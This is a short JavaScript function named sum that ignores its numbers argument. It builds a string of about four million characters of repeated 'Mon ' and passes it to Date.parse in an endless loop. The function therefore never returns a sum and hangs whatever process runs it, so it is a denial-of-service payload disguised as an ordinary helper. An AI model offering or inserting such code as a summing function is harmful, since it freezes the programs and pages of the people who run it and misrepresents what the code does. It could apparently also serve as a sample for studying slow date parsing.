function sum(numbers) {
  const text = 'Mon '.repeat(1 << 20);
  for (;;) Date.parse(text);
}
